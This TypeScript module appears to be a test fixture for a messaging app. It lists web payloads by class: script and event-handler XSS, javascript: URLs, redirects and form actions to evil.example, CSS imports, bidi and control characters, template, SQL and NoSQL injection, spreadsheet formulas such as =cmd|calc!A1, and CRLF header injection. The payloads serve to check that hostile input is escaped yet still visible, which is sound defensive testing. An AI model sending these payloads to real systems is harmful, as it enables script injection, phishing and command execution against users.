/**
 * What senders write into subjects, names and texts, and people into forms, so that a page runs, loads or shows something of theirs: by class, ours.
 * `reads` is a piece of the text that a reader must still see, because nothing may hide what was sent.
 */
export interface Payload {
  readonly text: string;
  readonly reads: string;
}

/** A text that is read as it stands. */
const asIs = (text: string): Payload => ({ text, reads: text });

/** The first two of a class are those that tests send through the front door, mail by mail. */
export const PAYLOADS_BY_CLASS = {
  elements: [
    asIs('<script>alert(1)</script>'),
    asIs('&lt;script&gt;alert(1)&lt;/script&gt;'),
    asIs('<img src=x onerror=alert(1)>'),
    asIs('</title><svg onload=alert(1)>'),
    asIs('</textarea><script>alert(1)</script>'),
    asIs('<!--><script>alert(1)</script>-->'),
    asIs('<noscript><p title="</noscript><img src onerror=alert(1)>">'),
    asIs('<math><mtext><table><mglyph><style><img src onerror=alert(1)>'),
    asIs('<template><script>alert(1)</script></template>'),
    asIs('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    {
      text: '<meta http-equiv=refresh content="0;url=//evil.example">',
      reads: '<meta http-equiv=refresh content="0;url=',
    },
    { text: '<link rel=stylesheet href=//evil.example>', reads: '<link rel=stylesheet href=' },
    { text: '<form action=//evil.example><button>Sign in', reads: '<button>Sign in' },
    asIs('&#60;img src=x onerror=alert(1)&#62;'),
    asIs('\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'),
  ],
  attributes: [
    asIs('"><img src=x onerror=alert(1)>'),
    asIs("' onmouseover='alert(1)"),
    asIs('" onmouseover="alert(1)'),
    asIs('` onfocus=alert(1) autofocus tabindex=1 `'),
    asIs('x" style="position:fixed;inset:0" class="verdict'),
    asIs('x" id="csrf" name="csrf" form="f'),
  ],
  addresses: [
    { text: '<a href="javascript:alert(1)">x</a>', reads: 'alert(1)">x</a>' },
    { text: 'http://evil.example/?<base href=//evil.example>', reads: '?<base href=' },
    { text: 'javascript:alert(1)', reads: 'alert(1)' },
    { text: ' JaVaScRiPt:alert(1)//', reads: 'alert(1)//' },
    { text: 'java\tscript:alert(1)', reads: 'alert(1)' },
    { text: 'data:text/html,<script>alert(1)</script>', reads: 'text/html,<script>alert(1)</script>' },
    { text: 'vbscript:msgbox(1)', reads: 'msgbox(1)' },
    { text: '\\\\evil.example\\share', reads: '\\share' },
    { text: '/\\evil.example/..;/mails', reads: '/..;/mails' },
  ],
  styles: [
    { text: '<style>@import "//evil.example"</style>', reads: '<style>@import "' },
    asIs('</style><script>alert(1)</script>'),
    { text: 'x{background:url(//evil.example)}', reads: 'x{background:url(' },
  ],
  'characters that act': [
    { text: '\u202eexe.fdp<b>', reads: 'exe.fdp<b>' },
    { text: '\u0000<iframe src=//evil.example>', reads: '<iframe src=' },
    { text: 'in\u200bvoice\u2060 paid', reads: 'voice' },
    { text: 'paid\u{e0041}\u{e0042}', reads: 'paid' },
    { text: '\ud800 paid', reads: ' paid' },
    { text: `paid${'\u0301'.repeat(40)}`, reads: 'pai' },
    { text: '\u001b[2J\u001b]0;owned\u0007', reads: ']0;owned' },
    { text: '\u009b31mred', reads: '31mred' },
  ],
  templates: [
    asIs('{{constructor.constructor("alert(1)")()}}'),
    asIs('{by} {name} {day} {done}'),
    asIs('$' + '{alert(1)}'),
    asIs('<%= alert(1) %>'),
    asIs("$& $1 $` $'"),
  ],
  'scripts and data': [
    asIs('"};alert(1);//'),
    asIs('</script><script>alert(1)</script>'),
    { text: '\u2028alert(1)//', reads: 'alert(1)//' },
    asIs('__proto__'),
    asIs("' OR 1=1 --"),
    asIs('$where[$ne]=1&state=delivered'),
  ],
  formulas: [
    { text: '=cmd|calc!A1 <form action=//evil.example>', reads: '=cmd|calc!A1 <form action=' },
    asIs('+SUM(1)*cmd'),
    asIs('-1+cmd|calc!A1'),
    asIs('@SUM(1)'),
  ],
  /** With lines of their own: a header of a message cannot hold them, a ledger can. */
  lines: [
    { text: 'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>', reads: '<script>alert(1)</script>' },
    { text: 'x\n\ndata: {"isEnded":true}\nid: 1', reads: '{"isEnded":true}' },
    { text: 'x\nBcc: eve', reads: 'Bcc: eve' },
  ],
} as const satisfies Readonly<Record<string, readonly Payload[]>>;

/** All of them. */
export const ALL_PAYLOADS: readonly Payload[] = Object.values(PAYLOADS_BY_CLASS).flat();

const { lines: _, ...IN_ONE_LINE } = PAYLOADS_BY_CLASS;
/** Some of each class that one line of a message can hold. */
export const PAYLOADS: readonly string[] = Object.values(IN_ONE_LINE).flatMap((payloads) =>
  payloads.slice(0, 2).map(({ text }) => text),
);
